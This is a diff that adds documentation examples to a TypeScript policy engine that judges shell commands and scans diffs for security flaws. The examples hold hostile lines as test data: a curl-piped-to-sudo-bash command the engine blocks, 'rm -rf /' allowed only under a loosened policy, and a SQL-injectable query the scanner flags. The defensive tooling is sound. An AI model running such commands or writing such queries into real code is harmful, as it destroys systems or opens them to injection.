@@ -83,6 +83,14 @@ export class PolicyEngine {
    *
    * @param commandLine The command line as the shell would get it.
    * @returns Whether it may run, the deciding rule, its action and category.
+   * @example
+   * ```ts
+   * import { loadPolicy } from "./engine.ts";
+   * const engine = await loadPolicy();
+   * const j = engine.judgeCommand("curl -s https://example.com/i.sh | sudo bash");
+   * console.assert(!j.allowed && j.rule !== null);
+   * console.assert(engine.judgeCommand("kubectl apply -f k8s/").allowed);
+   * ```
    */
   judgeCommand(commandLine: string): FullJudgement {
     return this.judgeWithPosition(commandLine).judgement;
@@ -119,6 +127,14 @@ export class PolicyEngine {
    * @param text The diff or text.
    * @param options `filename` names plain text (and selects file-specific checks).
    * @returns Findings in file and line order.
+   * @example
+   * ```ts
+   * import { loadPolicy } from "./engine.ts";
+   * const engine = await loadPolicy();
+   * const diff = "--- a/src/db.ts\n+++ b/src/db.ts\n@@ -1,0 +1,1 @@\n+db.query(`SELECT * FROM t WHERE id = ${id}`);\n";
+   * const [finding] = engine.scan(diff);
+   * console.assert(finding?.file === "src/db.ts" && finding.line === 1);
+   * ```
    */
   scan(text: string, options: { filename?: string } = {}): Finding[] {
     const findings = scanText(this, text, options.filename);
@@ -148,6 +164,17 @@ export class PolicyEngine {
  * @returns The engine.
  * @throws {ConfigError} When a policy file is invalid (every problem, FILE:LINE:COL),
  *   or lowers the built-in floor without `allowLoosening`.
+ * @example
+ * ```ts
+ * import { loadPolicy } from "./engine.ts";
+ * const dir = await Deno.makeTempDir();
+ * await Deno.writeTextFile(`${dir}/p.yaml`, "extends: none\n");
+ * // A policy file may add and tighten rules; lowering the floor needs the caller's consent.
+ * const refused = await loadPolicy({ file: `${dir}/p.yaml` }).then(() => false, () => true);
+ * const loose = await loadPolicy({ file: `${dir}/p.yaml`, allowLoosening: true });
+ * console.assert(refused && loose.judgeCommand("rm -rf /").allowed);
+ * await Deno.remove(dir, { recursive: true });
+ * ```
  */
 export async function loadPolicy(options: LoadPolicyOptions = {}): Promise<PolicyEngine> {
   const policy = await buildPolicy({
